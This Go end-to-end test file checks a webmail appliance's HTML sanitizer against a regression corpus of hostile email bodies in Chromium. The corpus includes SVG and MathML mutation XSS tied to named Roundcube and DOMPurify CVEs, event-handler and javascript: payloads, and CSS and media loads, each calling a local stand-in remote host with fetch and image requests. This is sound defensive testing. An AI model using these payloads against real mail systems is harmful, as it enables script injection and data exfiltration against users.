package e2e

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"image"
	"image/color"
	"image/gif"
	"image/png"
	"io"
	"log"
	"net"
	"net/http"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	cdplog "github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// remote stands in for a host on the internet that a hostile message body
// tries to reach. It records every connection and every request. One port
// answers both plain HTTP and TLS: the appliance is served over HTTPS, so
// Chromium upgrades an http:// image on its pages to https:// on the same
// port, and a plain HTTP listener would see only a garbled handshake and
// record nothing.
type remote struct {
	URL string // http://127.0.0.1:port

	mu    sync.Mutex
	conns int
	reqs  []remoteRequest
}

type remoteRequest struct {
	Path   string
	TLS    bool
	Header http.Header
}

func (r remoteRequest) String() string {
	scheme := "http"
	if r.TLS {
		scheme = "https"
	}
	var h []string
	for _, k := range []string{"Referer", "Origin", "Cookie", "Sec-Fetch-Dest", "Sec-Fetch-Mode", "Sec-Fetch-Site", "User-Agent"} {
		if v := r.Header.Get(k); v != "" {
			h = append(h, k+": "+v)
		}
	}
	return fmt.Sprintf("%s %s [%s]", scheme, r.Path, strings.Join(h, "; "))
}

type connKey struct{}

func startRemote(t *testing.T) *remote {
	t.Helper()
	dir := t.TempDir()
	certFile, keyFile := filepath.Join(dir, "remote.pem"), filepath.Join(dir, "remote.key")
	writeTestCert(t, certFile, keyFile)
	cert, err := tls.LoadX509KeyPair(certFile, keyFile)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	r := &remote{URL: "http://" + ln.Addr().String()}
	srv := &http.Server{
		Handler:           r,
		ReadHeaderTimeout: 10 * time.Second,
		ErrorLog:          log.New(io.Discard, "", 0),
		ConnContext:       func(ctx context.Context, c net.Conn) context.Context { return context.WithValue(ctx, connKey{}, c) },
	}
	go srv.Serve(&sniffListener{Listener: ln, r: r, cfg: &tls.Config{Certificates: []tls.Certificate{cert}}})
	t.Cleanup(func() { srv.Close() })
	return r
}

// trackGIF is what the remote host answers for /track.gif: a picture large
// enough to see in a screenshot.
var trackGIF = func() []byte {
	img := image.NewPaletted(image.Rect(0, 0, 160, 40), color.Palette{color.RGBA{0xf5, 0x8a, 0x07, 0xff}})
	var b bytes.Buffer
	if err := gif.Encode(&b, img, nil); err != nil {
		panic(err)
	}
	return b.Bytes()
}()

func (r *remote) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	sc, _ := req.Context().Value(connKey{}).(*sniffConn)
	r.mu.Lock()
	r.reqs = append(r.reqs, remoteRequest{Path: req.URL.RequestURI(), TLS: sc != nil && sc.tls, Header: req.Header.Clone()})
	r.mu.Unlock()
	if strings.HasSuffix(req.URL.Path, ".gif") {
		w.Header().Set("Content-Type", "image/gif")
		w.Write(trackGIF)
		return
	}
	w.Header().Set("Content-Type", "text/plain")
	io.WriteString(w, "remote host\n")
}

// seen is what the remote host has received so far.
func (r *remote) seen() (conns int, reqs []remoteRequest) {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.conns, append([]remoteRequest(nil), r.reqs...)
}

// sniffListener counts connections and hands each one to TLS when its first
// byte is a TLS handshake record.
type sniffListener struct {
	net.Listener
	r   *remote
	cfg *tls.Config
}

func (l *sniffListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	l.r.mu.Lock()
	l.r.conns++
	l.r.mu.Unlock()
	return &sniffConn{Conn: c, cfg: l.cfg}, nil
}

type sniffConn struct {
	net.Conn
	cfg  *tls.Config
	once sync.Once
	rw   net.Conn
	tls  bool
}

func (c *sniffConn) sniff() {
	c.once.Do(func() {
		br := bufio.NewReader(c.Conn)
		c.rw = &peekedConn{Conn: c.Conn, r: br}
		if b, err := br.Peek(1); err == nil && b[0] == 0x16 {
			c.rw, c.tls = tls.Server(c.rw, c.cfg), true
		}
	})
}

func (c *sniffConn) Read(p []byte) (int, error)  { c.sniff(); return c.rw.Read(p) }
func (c *sniffConn) Write(p []byte) (int, error) { c.sniff(); return c.rw.Write(p) }

type peekedConn struct {
	net.Conn
	r *bufio.Reader
}

func (c *peekedConn) Read(p []byte) (int, error) { return c.r.Read(p) }

// xssCase is one hostile message. Its name starts every address it points
// at on the remote host, so that any load names the case that caused it.
type xssCase struct {
	name    string
	subject string // "" for "XSS NN name"
	format  string // "" for html
	body    string
}

// xssJS is the script each case tries to run: it marks the window, calls
// the remote host by fetch and by image, opens a dialog and navigates to
// the remote host (a navigation is the one call a CSP does not stop). It
// has no space, double quote or ">", so it fits an unquoted attribute and
// a double-quoted one.
func xssJS(remote, name string) string {
	u := remote + "/" + name
	return "window.__xss='" + name + "';fetch('" + u + "/fetch');document.createElement('img').src='" + u + "/img';" +
		"alert('" + name + "');location='" + u + "/location'"
}

// dataPNG is a small green picture as a data URL, which the sanitizer keeps.
var dataPNG = func() string {
	img := image.NewRGBA(image.Rect(0, 0, 24, 24))
	for y := 0; y < 24; y++ {
		for x := 0; x < 24; x++ {
			img.Set(x, y, color.RGBA{0x2e, 0x9e, 0x4f, 0xff})
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		panic(err)
	}
	return "data:image/png;base64," + base64.StdEncoding.EncodeToString(b.Bytes())
}()

// xssCorpus is the regression corpus from the webmail bypass list (Roundcube,
// Zimbra, DOMPurify and bluemonday CVEs and their classic variants).
func xssCorpus(remote string) []xssCase {
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	type raw struct{ name, body string }
	var raws []raw
	add := func(name string, body func(u, js string) string) {
		raws = append(raws, raw{name, body(remote+"/"+name, xssJS(remote, name))})
	}
	add("script", func(u, js string) string { return `<script>` + js + `</script>` })
	add("script-src", func(u, js string) string { return `<script src="` + u + `/src.js"></script>` })
	add("img-onerror", func(u, js string) string { return `<img src=x onerror=` + js + `>` })
	add("img-onerror-remote", func(u, js string) string {
		return `<img src="` + u + `/src" onerror="` + js + `" alt="remote picture">`
	})
	add("svg-script", func(u, js string) string { return `<svg><script>` + js + `</script></svg>` })
	add("svg-onload", func(u, js string) string { return `<svg onload="` + js + `"><circle r="5"></circle></svg>` })
	add("svg-use-data", func(u, js string) string { // CVE-2023-5631
		inner := `<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="` + u + `/svgimage" onerror="` + js + `"/></svg>`
		return `<svg><use href="data:image/svg+xml;base64,` + b64(inner) + `#x"></use></svg>`
	})
	add("svg-animate-onbegin", func(u, js string) string {
		return `<svg><animate onbegin="` + js + `" attributeName="x" dur="1s"></animate></svg>`
	})
	add("svg-animate-href", func(u, js string) string {
		return `<svg><a><animate attributeName="href" values="javascript:` + js + `"></animate><text x="10" y="20">svg link</text></a></svg>`
	})
	add("svg-image", func(u, js string) string {
		return `<svg><image href="` + u + `/image"></image><filter><feImage href="` + u + `/feimage"></feImage></filter></svg>`
	})
	add("svg-style-confusion", func(u, js string) string { // CVE-2018-19206
		return `<svg><style><img src="` + u + `/src" onerror="` + js + `"></style></svg>`
	})
	add("math-mglyph-style", func(u, js string) string {
		return `<math><mtext><table><mglyph><style><img src="` + u + `/src" onerror="` + js + `">`
	})
	add("math-mglyph-comment", func(u, js string) string { // DOMPurify 2.0.17
		return `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=` + u +
			`/src&Tab;onerror=` + js + `&gt;">`
	})
	add("form-math-mglyph", func(u, js string) string { // DOMPurify 2.2.2
		return `<form><math><mtext></form><form><mglyph><style></math><img src="` + u + `/src" onerror="` + js + `">`
	})
	add("style-import", func(u, js string) string { return `<style>@import url(` + u + `/import.css);</style>` })
	add("style-element-background", func(u, js string) string {
		return `<style>body{background:url(` + u + `/bg)}</style>`
	})
	add("style-attr-url", func(u, js string) string {
		return `<div style="background:url(` + u + `/bg)">styled text</div>`
	})
	add("style-attr-escape", func(u, js string) string {
		return `<div style="background:\75\72\6C(` + u + `/esc)">escaped text</div>` +
			`<div style="background-image:u\rl(` + u + `/esc2)">escaped text two</div>`
	})
	add("style-attr-entity", func(u, js string) string {
		return `<div style="background-image:url(&quot;` + u + `/entity&quot;)">entity text</div>`
	})
	add("style-attr-misc", func(u, js string) string {
		return `<div style="list-style-image:url(` + u + `/list);cursor:url(` + u + `/cursor),auto;border-image:url(` + u +
			`/border) 30;content:url(` + u + `/content)">misc style</div><div style="width:expression(` + js + `)">expression</div>`
	})
	add("link-stylesheet", func(u, js string) string { return `<link rel="stylesheet" href="` + u + `/style.css">` })
	add("link-hints", func(u, js string) string {
		return `<link rel="preconnect" href="` + u + `/preconnect"><link rel="prefetch" href="` + u + `/prefetch">` +
			`<link rel="preload" as="image" href="` + u + `/preload"><link rel="dns-prefetch" href="` + u + `/dns">`
	})
	add("a-javascript", func(u, js string) string { return `<a href="javascript:` + js + `">click</a>` })
	add("a-javascript-entity", func(u, js string) string { return `<a href="JaVaScRiPt&#x3a;` + js + `">click</a>` })
	add("a-javascript-tab", func(u, js string) string { return `<a href="java&#x09;script:` + js + `">click</a>` })
	add("a-data-html", func(u, js string) string {
		return `<a href="data:text/html,<script>` + js + `</script>">click</a> ` +
			`<a href="data:text/html;base64,` + b64(`<script>`+js+`</script>`) + `">click64</a>`
	})
	add("form-input-image", func(u, js string) string {
		return `<form action="` + u + `/action"><input type="image" src="` + u + `/input"></form>`
	})
	add("button-formaction", func(u, js string) string {
		return `<form><button formaction="` + u + `/formaction">go</button></form>`
	})
	add("meta-refresh", func(u, js string) string {
		return `<meta http-equiv="refresh" content="0;url=` + u + `/refresh">`
	})
	add("base-href", func(u, js string) string {
		return `<base href="` + u + `/"><img src="relative.png" alt="relative"><a href="relative-link">relative link</a>`
	})
	add("img-srcset", func(u, js string) string {
		return `<img srcset="` + u + `/srcset 1x" alt="srcset"><img src="` + dataPNG + `" srcset="` + u + `/srcset2 1x" alt="data with srcset">`
	})
	add("picture-source", func(u, js string) string {
		return `<picture><source srcset="` + u + `/source"><img src="` + dataPNG + `" alt="picture"></picture>`
	})
	add("video-poster", func(u, js string) string {
		return `<video poster="` + u + `/poster" src="` + u + `/video" autoplay></video>`
	})
	add("audio-autoplay", func(u, js string) string {
		return `<audio src="` + u + `/audio" autoplay></audio><audio autoplay><source src="` + u + `/source"></audio>`
	})
	add("body-background", func(u, js string) string { return `<body background="` + u + `/bg">body text</body>` })
	add("table-background", func(u, js string) string {
		return `<table background="` + u + `/table"><tr><td background="` + u + `/td">cell</td></tr></table>`
	})
	add("iframe", func(u, js string) string {
		return `<iframe src="` + u + `/frame"></iframe><iframe srcdoc="<script>` + js + `</script>"></iframe>`
	})
	add("object-data", func(u, js string) string {
		return `<object data="` + u + `/object"></object><object data="data:text/html;base64,` + b64(`<script>`+js+`</script>`) + `"></object>`
	})
	add("embed-src", func(u, js string) string { return `<embed src="` + u + `/embed">` })
	add("input-image", func(u, js string) string { return `<input type="image" src="` + u + `/input">` })
	add("autofocus-onfocus", func(u, js string) string {
		return `<input autofocus onfocus="` + js + `"><marquee onstart="` + js + `">marquee</marquee>`
	})
	add("details-ontoggle", func(u, js string) string {
		return `<details open ontoggle="` + js + `"><summary>summary</summary>details</details>`
	})
	add("textarea-mxss", func(u, js string) string {
		return `<textarea><img title="</textarea><img src=x onerror=` + js + `>"></textarea>`
	})
	add("noscript-mxss", func(u, js string) string {
		return `<noscript><p title="</noscript><img src=x onerror=` + js + `>"></noscript>`
	})
	add("comment-mxss", func(u, js string) string {
		return `<!--><img src=x onerror=` + js + `>--><!-- --!><img src=x onerror=` + js + `> -->`
	})
	add("xmp-mxss", func(u, js string) string {
		return `<xmp><img title="</xmp><img src=x onerror=` + js + `>"></xmp>`
	})
	add("remote-pixel", func(u, js string) string { return `<img src="` + u + `/pixel.gif" width="1" height="1">` })
	add("link-spoof", func(u, js string) string {
		return `<a href="http://good.example">http://evil.example</a> <a href="https://good.example/" ping="` + u + `/ping">ping link</a>`
	})

	var cases []xssCase
	label := func(n int, name, body string) string {
		return fmt.Sprintf("<p>Case %02d %s: the text before.</p>%s<p>The text after case %02d.</p>", n, name, body, n)
	}
	var all strings.Builder
	for _, r := range raws {
		cases = append(cases, xssCase{name: r.name, body: label(len(cases)+1, r.name, r.body)})
		all.WriteString(r.body)
	}
	// A plain remote image: withheld by default, shown with ?images=1.
	cases = append(cases, xssCase{name: "track", body: label(len(cases)+1, "track",
		`<img src="`+remote+`/track.gif" alt="tracking picture">`)})
	// The subject is shown on the reading page itself, outside the frame.
	js := xssJS(remote, "subject")
	cases = append(cases, xssCase{name: "subject", subject: `"><img src=` + remote + `/subject/src onerror=` + js + `><script>` + js + `</script>`,
		body: label(len(cases)+1, "subject", "<p>The subject is hostile.</p>")})
	js = xssJS(remote, "text-format")
	cases = append(cases, xssCase{name: "text-format", format: "text",
		body: fmt.Sprintf("Case %02d text-format: the text before.\n<script>%s</script><img src=\"%s/text-format/img\">\n", len(cases)+1, js, remote)})
	// Every case in one body, where an element one case leaves open may
	// change how the next one parses.
	cases = append(cases, xssCase{name: "all-together", body: label(len(cases)+1, "all-together", all.String())})
	return cases
}

// sendRaw sends each case as a message from the compose page of ctx, posting
// the exact HTML with fetch (the page's editor would rewrite it), and
// returns each message's path.
func sendRaw(t *testing.T, ctx context.Context, to string, cases []xssCase) []string {
	t.Helper()
	type msg struct {
		To      string `json:"to"`
		Subject string `json:"subject"`
		Body    string `json:"body"`
		Format  string `json:"format"`
	}
	var msgs []msg
	for i, c := range cases {
		m := msg{To: to, Subject: c.subject, Body: c.body, Format: c.format}
		if m.Subject == "" {
			m.Subject = fmt.Sprintf("XSS %02d %s", i+1, c.name)
		}
		if m.Format == "" {
			m.Format = "html"
		}
		msgs = append(msgs, m)
	}
	js, err := json.Marshal(msgs)
	if err != nil {
		t.Fatal(err)
	}
	paths, err := chromedp.Run(ctx, chromedp.Evaluate[[]string](`(async msgs => {
  const csrf = document.querySelector("input[name=csrf]").value;
  const out = [];
  for (const m of msgs) {
    const fd = new FormData();
    fd.set("csrf", csrf);
    for (const k of ["to", "subject", "body", "format"]) fd.set(k, m[k]);
    fd.set("do", "send");
    fd.set("invite_confirmed", "yes");
    const r = await fetch("/mail/compose", {method: "POST", body: fd, credentials: "same-origin"});
    const u = new URL(r.url);
    out.push(u.pathname === "/mail/compose" ? r.status + " " + (await r.text()).slice(0, 2000) : u.pathname);
  }
  return out;
})(`+string(js)+`)`, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatalf("send the corpus: %v", err)
	}
	msgPath := regexp.MustCompile(`^/mail/m/m[a-z2-7]{20}$`)
	for i, p := range paths {
		if !msgPath.MatchString(p) {
			t.Fatalf("sending case %s did not lead to the message: %s", cases[i].name, p)
		}
	}
	return paths
}

// pageWatch records what a tab must never do while it shows a message:
// open a JavaScript dialog (which it dismisses, so the flow goes on) or a
// window, and what the browser logs about the content security policy and
// the sandbox.
type pageWatch struct {
	mu      sync.Mutex
	dialogs []string
	windows []string
	logs    []string
}

func watch(t *testing.T, ctx context.Context, w *pageWatch, label func() string) {
	t.Helper()
	err := chromedp.Listen(ctx, func(ev any) {
		what := label()
		switch ev := ev.(type) {
		case *page.EventJavascriptDialogOpening:
			w.mu.Lock()
			w.dialogs = append(w.dialogs, fmt.Sprintf("%s: %s %q in %s", what, ev.Type, ev.Message, ev.URL))
			w.mu.Unlock()
			go chromedp.Run(ctx, chromedp.Action[cdp.Empty](func(ctx context.Context, t *chromedp.Target) (cdp.Empty, error) {
				return cdp.Call(ctx, t, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{})
			}))
		case *page.EventWindowOpen:
			w.mu.Lock()
			w.windows = append(w.windows, what+": "+ev.URL)
			w.mu.Unlock()
		case *cdplog.EventEntryAdded:
			if e := ev.Entry; e != nil {
				w.mu.Lock()
				w.logs = append(w.logs, fmt.Sprintf("%s: %s %s: %s", what, e.Source, e.Level, e.Text))
				w.mu.Unlock()
			}
		}
	})
	if err != nil {
		t.Fatal(err)
	}
}

// bodyAudit is what the browser made of a body page: its parsed DOM checked
// against the sanitizer's guarantees, and its visible text.
type bodyAudit struct {
	XSS  string   `json:"xss"`
	Text string   `json:"text"`
	Bad  []string `json:"bad"`
}

// auditJS checks the document as Chromium parsed it, which is what counts
// for mutation XSS: only the sanitizer's elements and attributes, only
// http, https, mailto, cid and raster data URLs, the frame's own head.
const auditJS = `(() => {
  const tags = new Set(["html", "head", "body", "meta", "style", "p", "br", "div", "span", "b", "strong", "i", "em", "u", "s",
    "strike", "sub", "sup", "small", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "hr",
    "table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption", "a", "img", "font"]);
  const attrs = new Set(["dir", "lang", "style", "align", "width", "height", "border", "cellpadding", "cellspacing", "bgcolor",
    "valign", "colspan", "rowspan", "href", "src", "alt", "color", "face", "size", "target", "rel", "title", "referrerpolicy", "class"]);
  const url = /^(https?:\/\/|mailto:|cid:|data:image\/(png|jpeg|gif|webp);base64,)/i;
  const bad = [];
  for (const el of document.querySelectorAll("*")) {
    const tag = el.localName;
    if (el.namespaceURI !== "http://www.w3.org/1999/xhtml") bad.push("foreign element " + el.namespaceURI + " " + tag);
    if (!tags.has(tag)) bad.push("element " + tag);
    if ((tag === "style" || tag === "meta") && el.parentNode !== document.head) bad.push(tag + " outside the head");
    if (el.parentNode === document.head && tag === "meta") {
      if (!(el.attributes.length === 1 && el.hasAttribute("charset")) &&
          !(el.attributes.length === 2 && el.getAttribute("name") === "referrer" && el.getAttribute("content") === "no-referrer"))
        bad.push("meta " + el.outerHTML);
      continue;
    }
    for (const a of el.attributes) {
      const n = a.name.toLowerCase();
      if (!attrs.has(n)) bad.push(tag + " @" + n + "=" + a.value.slice(0, 80));
      if ((n === "href" || n === "src") && !url.test(a.value)) bad.push(tag + " @" + n + "=" + a.value.slice(0, 80));
      if (n === "class" && !/^sealpost-(blocked|linkhost)$/.test(a.value)) bad.push(tag + " class=" + a.value);
    }
  }
  if (document.querySelectorAll("style").length !== 1) bad.push(document.querySelectorAll("style").length + " style elements");
  return {xss: typeof window.__xss, text: document.body ? document.body.innerText : "", bad};
})()`

// header is a response header by name in any case (HTTP/2 lowers them).
func header(h map[string]any, name string) string {
	for k, v := range h {
		if strings.EqualFold(k, name) {
			return fmt.Sprint(v)
		}
	}
	return ""
}

func checkFrameCSP(t *testing.T, what, csp string) {
	t.Helper()
	for _, want := range []string{"sandbox", "default-src 'none'"} {
		if !strings.Contains(csp, want) {
			t.Errorf("%s: the body's Content-Security-Policy %q lacks %q", what, csp, want)
		}
	}
	for _, never := range []string{"allow-scripts", "allow-same-origin"} {
		if strings.Contains(csp, never) {
			t.Errorf("%s: the body's Content-Security-Policy %q has %q", what, csp, never)
		}
	}
}

// xssBatch is how many cases one browser reads within its minute.
const xssBatch = 13

// patBrowser is a new browser with Pat signed in.
func patBrowser(t *testing.T, f *flow, base, why string) context.Context {
	t.Helper()
	ctx := browser(t)
	f.do(ctx, "Pat opens sign-in to "+why, chromedp.Navigate(base+"/signin"))
	signIn(f, ctx, "Pat signs in to "+why, patEmail, patPassword, chromedp.WaitVisible(chromedp.CSS(".mainnav")))
	return ctx
}

// readCase opens a case's reading page, checks the page around the frame
// and takes its screenshot.
func readCase(t *testing.T, f *flow, tab context.Context, url string, i int, c xssCase) {
	t.Helper()
	f.do(tab, "Pat reads case "+c.name,
		chromedp.Navigate(url),
		chromedp.WaitVisible(chromedp.ID("body")),
	)
	switch c.name {
	case "track", "all-together", "img-onerror-remote":
		if !shownSoon(t, tab, "#remote", 5*time.Second) {
			t.Errorf("%s: the reading page does not say that images were blocked", c.name)
		}
	}
	sandbox, err := chromedp.Run(tab, chromedp.Evaluate[string](`document.getElementById("body").getAttribute("sandbox")`))
	if err != nil {
		t.Fatal(err)
	}
	if sandbox != "allow-popups allow-popups-to-escape-sandbox" {
		t.Errorf("%s: the frame's sandbox is %q", c.name, sandbox)
	}
	if xss, _ := chromedp.Run(tab, chromedp.Evaluate[string](`typeof window.__xss`)); xss != "undefined" {
		t.Errorf("%s: on the reading page window.__xss is %s", c.name, xss)
	}
	if c.subject != "" {
		if got := pageText(t, tab, "#subject"); got != c.subject {
			t.Errorf("the hostile subject shows as %q, not as its text %q", got, c.subject)
		}
	}
	if c.name == "all-together" {
		time.Sleep(2 * time.Second) // late loads in the frame: timers, media, refreshes
	}
	screenshot(t, tab, fmt.Sprintf("xss-%02d-%s", i+1, c.name))
}

// shownSoon reports whether the element that css selects becomes visible
// within d: the reading page shows its notice after it asked the body.
func shownSoon(t *testing.T, ctx context.Context, css string, d time.Duration) bool {
	t.Helper()
	for deadline := time.Now().Add(d); ; time.Sleep(100 * time.Millisecond) {
		shown, err := chromedp.Run(ctx, chromedp.Evaluate[bool](fmt.Sprintf(`(e => !!e && !e.hidden && e.offsetParent !== null)(document.querySelector(%q))`, css)))
		if err != nil {
			t.Fatal(err)
		}
		if shown || time.Now().After(deadline) {
			return shown
		}
	}
}

// openBody opens a case's body page as a top-level page in a new tab, which
// it leaves open, and checks the response's headers.
func openBody(t *testing.T, browser context.Context, w *pageWatch, url string, c xssCase) context.Context {
	t.Helper()
	tab, cancel := chromedp.NewContext(browser)
	t.Cleanup(cancel)
	watch(t, tab, w, func() string { return "body page " + c.name })
	resp, err := chromedp.Run(tab, chromedp.NavigateResponse(url+"/body"))
	if err != nil {
		t.Fatalf("open the body of %s: %v", c.name, err)
	}
	if resp.Status != http.StatusOK {
		t.Errorf("the body of %s answers %d", c.name, resp.Status)
	}
	checkFrameCSP(t, c.name, header(resp.Headers, "Content-Security-Policy"))
	if c.name == "track" || c.name == "all-together" {
		if n := header(resp.Headers, "X-Sealpost-Blocked-Images"); n == "" || n == "0" {
			t.Errorf("the body of %s says %q images were blocked", c.name, n)
		}
	}
	return tab
}

// auditBody checks what Chromium made of a body page.
func auditBody(t *testing.T, tab context.Context, i int, c xssCase) {
	t.Helper()
	a, err := chromedp.Run(tab, chromedp.Evaluate[bodyAudit](auditJS))
	if err != nil {
		t.Errorf("audit the body page of %s: %v", c.name, err)
		return
	}
	if a.XSS != "undefined" {
		t.Errorf("%s: script ran in the body page (window.__xss is %s)", c.name, a.XSS)
	}
	for _, b := range a.Bad {
		t.Errorf("%s: the body page's DOM has %s", c.name, b)
	}
	if c.name != "subject" {
		if want := fmt.Sprintf("Case %02d %s", i+1, c.name); !strings.Contains(a.Text, want) {
			t.Errorf("%s: the body page does not show %q; it shows %q", c.name, want, a.Text)
		}
	}
	switch c.name {
	case "link-spoof", "all-together":
		if !strings.Contains(a.Text, "(good.example)") {
			t.Errorf("%s: the spoofed link does not show its real host; the page shows %q", c.name, a.Text)
		}
	case "track":
		if !strings.Contains(a.Text, "[image blocked: tracking picture]") {
			t.Errorf("track: no blocked-image marker; the page shows %q", a.Text)
		}
	}
}

// TestBrowserXSSCorpus sends the regression corpus of hostile HTML bodies
// (script, event handlers, SVG and MathML mutation XSS, CSS loads, forms,
// meta refresh, base, media, frames, plugins, spoofed links) through the
// real compose route and reads each one in Chromium, on the reading page and
// as the body page alone: no case reaches the stand-in remote host, runs
// script, opens a dialog or keeps a forbidden element or attribute in the
// DOM the browser builds. Then the remote host's own picture, allowed with
// ?images=1, does reach it: the oracle sees loads when there are some.
func TestBrowserXSSCorpus(t *testing.T) {
	t.Parallel()
	rem := startRemote(t)
	f := newFlow(t, 200)
	_, pat, base := professional(t, f)
	cases := xssCorpus(rem.URL)
	if len(cases) < 30 {
		t.Fatalf("the corpus has only %d cases", len(cases))
	}
	// Pat sends one message per case; the appliance lets a user send a
	// burst of 60, then one every two seconds.
	if len(cases) > 55 {
		t.Fatalf("the corpus has %d cases: combine some, or Pat meets the send pacing", len(cases))
	}

	f.do(pat, "Pat opens the compose page",
		chromedp.Navigate(base+"/mail/compose"),
		chromedp.WaitVisible(chromedp.ID("editarea")),
	)
	paths := sendRaw(t, pat, "xss-reader@outside.example.test", cases)
	t.Logf("sent %d messages; the remote host is %s", len(paths), rem.URL)
	var track int
	for i, c := range cases {
		if c.name == "track" {
			track = i
		}
	}

	// The reading pages. A browser of the harness lives a minute, so each
	// batch of cases gets a browser of its own.
	var w pageWatch
	for from := 0; from < len(cases); from += xssBatch {
		reader := patBrowser(t, f, base, "read the corpus")
		var mu sync.Mutex
		reading := ""
		watch(t, reader, &w, func() string { mu.Lock(); defer mu.Unlock(); return "reading page " + reading })
		for i := from; i < min(from+xssBatch, len(cases)); i++ {
			mu.Lock()
			reading = cases[i].name
			mu.Unlock()
			readCase(t, f, reader, base+paths[i], i, cases[i])
		}
		chromedp.Cancel(reader)
	}

	// The body pages alone, as top-level pages: their own CSP must still
	// sandbox them, and Chromium's DOM of them must hold only what the
	// sanitizer promises. Each stays open in its own tab while the late
	// loads (timers, media, refreshes) would happen.
	for from := 0; from < len(cases); from += xssBatch {
		direct := patBrowser(t, f, base, "open the bodies")
		tabs := map[int]context.Context{}
		for i := from; i < min(from+xssBatch, len(cases)); i++ {
			tabs[i] = openBody(t, direct, &w, base+paths[i], cases[i])
		}
		time.Sleep(2 * time.Second)
		for i := from; i < min(from+xssBatch, len(cases)); i++ {
			auditBody(t, tabs[i], i, cases[i])
		}
		chromedp.Cancel(direct)
	}

	conns, reqs := rem.seen()
	for _, r := range reqs {
		t.Errorf("the remote host was reached with the default settings: %s", r)
	}
	if conns > 0 {
		t.Errorf("the remote host got %d connections with the default settings", conns)
	}
	w.mu.Lock()
	for _, d := range w.dialogs {
		t.Errorf("a JavaScript dialog opened: %s", d)
	}
	for _, o := range w.windows {
		t.Errorf("a window opened: %s", o)
	}
	// What the frame's CSP or sandbox had to stop, the sanitizer let through.
	for _, l := range w.logs {
		if strings.Contains(l, rem.URL[len("http://"):]) || strings.Contains(l, "Content Security Policy") ||
			strings.Contains(l, "sandbox") || strings.Contains(l, "Blocked") || strings.Contains(l, ": security ") {
			t.Errorf("the browser stopped what the sanitizer let through: %s", l)
		} else {
			t.Logf("browser log: %s", l)
		}
	}
	w.mu.Unlock()

	// The positive control: with ?images=1 the plain remote picture loads.
	direct := patBrowser(t, f, base, "show the images")
	f.do(direct, "Pat shows the images of the tracking case",
		chromedp.Navigate(base+paths[track]+"?images=1"),
		chromedp.WaitVisible(chromedp.ID("body")),
	)
	deadline := time.Now().Add(10 * time.Second)
	var got []remoteRequest
	for {
		_, reqs := rem.seen()
		got = got[:0]
		for _, r := range reqs {
			if strings.HasPrefix(r.Path, "/track.gif") {
				got = append(got, r)
			}
		}
		if len(got) > 0 || time.Now().After(deadline) {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	if len(got) == 0 {
		_, reqs := rem.seen()
		t.Errorf("with ?images=1 the remote picture was not loaded; the remote host saw %v", reqs)
	}
	for _, r := range got {
		t.Logf("with ?images=1 the remote host got %s", r)
		if ref := r.Header.Get("Referer"); ref != "" {
			t.Errorf("the remote picture's request carries the referrer %q", ref)
		}
	}
	csp, err := chromedp.Run(direct, chromedp.Evaluate[string](`fetch(document.getElementById("body").src).then(r => r.headers.get("Content-Security-Policy"))`, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatal(err)
	}
	checkFrameCSP(t, "track with images", csp)
	time.Sleep(300 * time.Millisecond) // the picture paints
	screenshot(t, direct, fmt.Sprintf("xss-%02d-track-images-allowed", len(cases)+1))
}
